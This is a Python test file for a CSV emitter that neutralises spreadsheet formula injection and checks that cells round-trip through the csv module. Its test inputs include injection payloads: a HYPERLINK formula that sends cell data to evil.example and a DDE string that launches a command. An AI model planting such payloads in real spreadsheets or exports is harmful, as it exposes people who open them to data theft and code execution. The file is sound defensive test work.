"""csv_cells: formula starts neutralised (OWASP), a bare CR quoted, every other value round-trips
through Python's csv module byte for byte."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from csmconf.emit.csv_cells import FORMULA_STARTS, cell, neutralise, row


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_formula_starts_are_neutralised(value):
    assert neutralise(value) == "'" + value
    (fields,) = read(row([value, "next"]))
    assert fields == ["'" + value, "next"]  # read back as text with a leading quote, one row


@pytest.mark.parametrize("value", ["a=b", "x+1", "mail@example.com", " =1", "'=1", "1-2", ""])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


def test_a_bare_cr_is_quoted_and_cannot_split_a_row():
    text = row(["a\rb", "c\r\nd", "e\nf"])
    assert text == '"a\rb","c\r\nd","e\nf"\n'
    assert read(text) == [["a\rb", "c\r\nd", "e\nf"]]


def test_quotes_and_commas():
    assert cell('say "hi", then') == '"say ""hi"", then"'
    assert cell(None) == ""
    assert cell(7) == "7"
    assert row([""]) == '""\n'  # a lone empty field is a field, not an empty line
    assert read(row([""])) == [[""]]


safe_text = st.text(alphabet=st.characters(codec="utf-8"), max_size=40).filter(
    lambda s: not s.startswith(FORMULA_STARTS)
)


@given(st.lists(safe_text, min_size=1, max_size=6))
def test_every_other_value_round_trips(values):
    assert read(row(values)) == [values]


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_every_value_reads_back_as_one_row_neutralised(values):
    text = row(values)
    assert read(text) == [[neutralise(v) for v in values]]
    assert text.endswith("\n")
